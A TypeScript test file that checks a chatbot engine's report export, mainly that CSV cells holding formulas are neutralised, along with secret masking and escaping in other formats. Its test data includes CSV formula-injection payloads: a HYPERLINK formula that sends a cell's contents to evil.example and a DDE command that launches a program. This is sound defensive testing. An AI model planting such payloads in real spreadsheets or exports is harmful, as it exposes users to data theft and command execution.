import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import {
  csvCell,
  MemoryStore,
  reportRows,
  reportText,
  type ReportTextOptions,
  type TurnSummary,
} from '../../engine/index.js';
import { scriptOf, yaml } from '../support/scripts.js';

const ended: TurnSummary = {
  channel: 'telegram',
  status: 'ended',
  block: 'done',
  result: 'lead',
  begins: true,
  counts: [],
};

/** A store holding conversations whose variables are `values`, one each, in this order. */
async function storeWith(values: readonly Record<string, unknown>[]): Promise<MemoryStore> {
  const store = new MemoryStore();
  for (const [index, v] of values.entries()) {
    await store.put(`telegram:${index}`, JSON.stringify({ s: 'x', b: 'done', v }), undefined, ended);
    // Distinct update times keep the listing's order the order written.
    await new Promise((resolve) => setTimeout(resolve, 2));
  }
  return store;
}

async function text(store: MemoryStore, options: ReportTextOptions): Promise<string> {
  let all = '';
  for await (const chunk of reportText(store, options)) all += chunk;
  return all;
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1,2)',
  '\tleading tab',
  '\rleading return',
  'plain, with "quotes", commas\nand a newline',
  'Zoë 李雷 🤖 — ё',
  '',
];

describe('CSV report', () => {
  it('reads back, by a real RFC 4180 parser, as every value written, formulas neutralised', async () => {
    const store = await storeWith(HOSTILE.map((value) => ({ clientExternalId: value, city: value })));
    const csv = await text(store, { format: 'csv', variables: ['clientExternalId', 'city'] });
    expect(csv.endsWith('\r\n')).toBe(true);
    const records = parse<Record<string, string>>(csv, { columns: true });
    const neutral = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
    expect(records.map((record) => record.clientExternalId)).toEqual(HOSTILE.map(neutral));
    expect(records.map((record) => record.city)).toEqual(HOSTILE.map(neutral));
    expect(records[0]).toMatchObject({
      key: 'telegram:0',
      channel: 'telegram',
      status: 'ended',
      block: 'done',
      result: 'lead',
    });
    expect(Date.parse(records[0]?.started ?? '')).toBeGreaterThan(0);
  });

  it('neutralises a formula in a key, a block and a result too', () => {
    expect(['=1', '+1', '-1', '@1', '\t1', '\r1', 'a=1'].map(csvCell)).toEqual([
      "'=1",
      "'+1",
      "'-1",
      "'@1",
      "'\t1",
      `"'\r1"`,
      'a=1',
    ]);
  });

  it('starts with a byte-order mark when asked, for Excel', async () => {
    const store = await storeWith([{ clientExternalId: '42' }]);
    expect(await text(store, { format: 'csv', bom: true })).toMatch(/^\uFEFFkey,channel,/);
    expect(await text(store, { format: 'csv' })).toMatch(/^key,channel,/);
  });

  it('shows clientExternalId by default, every variable with `all`, the script’s defaults filled in', async () => {
    const script = scriptOf(yaml`
      botflow: 1
      name: defaults
      variables: { city: Moscow, status: new }
      blocks:
        done: { type: end, text: bye }
    `);
    const store = await storeWith([{ clientExternalId: '42', status: 'vip' }]);
    const [header, row] = (await text(store, { format: 'csv' })).split('\r\n');
    expect(header).toBe('key,channel,started,updated,status,block,result,clientExternalId');
    expect(row?.endsWith(',42')).toBe(true);
    const records = parse<Record<string, string>>(
      await text(store, { format: 'csv', variables: 'all', script }),
      { columns: true },
    );
    // A variable named like a column keeps its own value under a prefix.
    expect(records[0]).toMatchObject({
      clientExternalId: '42',
      city: 'Moscow',
      status: 'ended',
      'vars.status': 'vip',
    });
  });

  it('masks the secrets it is given in every cell', async () => {
    const store = await storeWith([{ clientExternalId: 'token-s3cret-value', city: 'x' }]);
    const csv = await text(store, {
      format: 'csv',
      mask: (value) =>
        JSON.parse(JSON.stringify(value).replaceAll('token-s3cret-value', '***')) as typeof value,
    });
    expect(csv).not.toContain('s3cret');
    expect(csv).toContain(',***');
  });

  it('writes JSON and NDJSON rows with their variables, and a table that escapes control characters', async () => {
    const store = await storeWith([{ clientExternalId: '42' }, { clientExternalId: 'a\u001b[2Jb\nc' }]);
    const json = JSON.parse(await text(store, { format: 'json' })) as { variables: unknown }[];
    expect(json.map((row) => row.variables)).toEqual([
      { clientExternalId: '42' },
      { clientExternalId: 'a\u001b[2Jb\nc' },
    ]);
    const lines = (await text(store, { format: 'ndjson' })).trimEnd().split('\n');
    expect(lines.map((line) => (JSON.parse(line) as { key: string }).key)).toEqual([
      'telegram:0',
      'telegram:1',
    ]);
    const table = await text(store, { format: 'table' });
    expect(table).not.toContain('\u001b');
    expect(table).toContain('a\\u001b[2Jb\\nc');
    expect(table.split('\n')[0]).toMatch(/^key +channel +started/);
  });

  it('fills status, block and result from the record of a conversation stored before reports', async () => {
    const store = new MemoryStore();
    await store.put('old-ended', JSON.stringify({ s: 'x', b: '$end', a: 'done', r: 'lead' }), undefined);
    await store.put('old-waiting', JSON.stringify({ s: 'x', b: 'ask', v: { channel: 'vk' } }), undefined);
    const script = scriptOf(yaml`
      botflow: 1
      name: old
      blocks:
        ask: { type: ask, text: name?, save: name, next: done }
        done: { type: end, text: bye, result: lead }
    `);
    const rows = [];
    for await (const row of reportRows(store, { script })) rows.push(row);
    expect(rows).toMatchObject([
      { key: 'old-ended', status: 'ended', block: 'done', result: 'lead', started: null },
      { key: 'old-waiting', status: 'waiting', block: 'ask', channel: 'vk' },
    ]);
  });
});
